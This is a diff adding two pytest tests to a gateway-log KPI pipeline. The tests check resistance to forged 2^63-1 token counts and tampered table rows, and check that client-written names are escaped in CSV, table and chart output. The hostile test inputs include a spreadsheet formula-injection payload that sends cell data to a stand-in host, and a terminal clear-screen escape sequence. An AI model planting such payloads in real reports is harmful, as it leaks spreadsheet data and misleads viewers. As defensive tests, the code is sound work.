@@ -16,6 +16,7 @@ from typing import Any
 
 import orjson
 import pytest
+from azure.data.tables import EdmType, EntityProperty
 
 from pipeline import runtime
 from pipeline.cli.main import main
@@ -436,3 +437,58 @@ def test_llm_only_calls_count_without_a_status(cfg: Config, store: Store) -> Non
     total = kpi_rows(store, D1)["_total"]
     assert total["Calls"] == 1 and total["Succeeded"] == 0 and total["PromptTokens"] == 29
     assert total["CostUsd"] == pytest.approx((29 * 2.5 + 13 * 10.0) / 1e6)
+
+
+def _with_usage(tag: str, usage: dict[str, int], sub: str, time: str) -> dict[str, Any]:
+    rec = apim.gateway(apim.new_id(tag), time=time, apimSubscriptionId=sub)
+    body = orjson.dumps({**apim.chat_response("x"), "usage": usage}).decode()
+    rec["properties"]["backendResponseBody"] = rec["properties"]["responseBody"] = body
+    return rec
+
+
+def test_token_counts_no_call_can_have_neither_fail_ingest_nor_stop_the_kpis(
+    cfg: Config, store: Store
+) -> None:
+    # A sender on the hub reports 2^63-1 tokens: the total overflowed Int64 (the batch failed,
+    # 0 rows of 21), and a day's sums overflowed it (the timer raised: no KPI for anyone).
+    big = 2**63 - 1
+    victims = [
+        _with_usage(
+            f"victim-{i}",
+            {"prompt_tokens": 100, "completion_tokens": 10},
+            "team-a",
+            f"{D1}T10:0{i}:00Z",
+        )
+        for i in range(3)
+    ]
+    forged = _with_usage(
+        "forged", {"prompt_tokens": big, "completion_tokens": 5}, "x", f"{D1}T11:00:00Z"
+    )
+    result = process_batch([EventIn(apim.envelope(*victims, forged))], cfg, store)
+    assert result.created == 4 and not result.dead
+    (row,) = store.find_rows(apim.new_id("forged"))
+    assert row.get("PromptTokens") is None and row.get("TotalTokens") is None
+    assert row["CompletionTokens"] == 5
+    # A row written by hand (a tampered table) with such counts: the KPIs still roll up.
+    tampered = dict(row, RowKey="tampered", PromptTokens=EntityProperty(big, EdmType.INT64))
+    tampered["TotalTokens"] = EntityProperty(big, EdmType.INT64)
+    store.audit.upsert_entity(tampered)
+    daily.roll_up([D1], cfg, store)
+    total = kpi_rows(store, D1)["_total"]
+    assert total["Calls"] == 5 and total["PromptTokens"] == 300
+
+
+def test_names_clients_write_are_inert_in_kpi_csv_tables_and_charts(tmp_path: Path) -> None:
+    # A deployment or model name is what a client wrote (the body's `model` on some routes).
+    names = ['=HYPERLINK("http://x/?"&A1)', "ok\x1b[2Jcleared", "$\\frac{a}$", "_hidden", "p"]
+    lines = [
+        {"Day": f"{D1}", "Deployment": name, "TotalTokens": 10 * (i + 1), "CostUsd": 0.01}
+        for i, name in enumerate(names)
+    ]
+    rows = list(csv.reader(io.StringIO(report.as_csv(lines))))
+    assert rows[1][1] == "'" + names[0] and rows[5][1] == "p"
+    shown = report.as_table(lines, "deployment")
+    assert "\x1b" not in shown and "ok\\x1b[2Jcleared" in shown
+    path = report.chart(lines, "deployment", tmp_path / "c.png", "names")  # no math-text error
+    assert path.exists() and _png_size_and_ink(path)[2] > 5
+    assert report._legend_label("_hidden") != "_hidden"
